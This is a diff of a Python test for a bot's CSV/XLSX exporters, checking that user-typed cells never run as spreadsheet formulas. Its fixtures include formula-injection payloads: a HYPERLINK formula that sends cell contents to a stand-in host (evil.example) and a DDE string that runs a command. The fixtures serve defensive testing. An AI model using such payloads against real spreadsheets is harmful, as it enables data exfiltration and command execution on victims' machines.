@@ -1,5 +1,6 @@
-"""Every export goes through one escaping writer: no cell a person typed runs as a formula,
-in any export (attendance, goals, people, and any registered later), CSV or XLSX."""
+"""Every export goes through one escaping writer (bot/sheets.py): no cell a person typed runs
+as a formula, in any export (attendance, goals, people, and any registered later), CSV or
+XLSX."""
 
 from __future__ import annotations
 
@@ -12,12 +13,12 @@ from openpyxl import load_workbook
 
 from bot.exports import EXPORTERS
 from bot.schedule import Schedule
-from bot.spreadsheet import FORMULA_STARTS
 from bot.storage import Repository
 
 NOW = datetime(2021, 3, 20, 12, tzinfo=UTC)
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
 DDE = "=cmd|' /C calc'!A0"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = [HYPERLINK, DDE, "+1+2", "-3+4", "@SUM(A1:A2)", "\tTab", "Bell\x07name"]
 
 
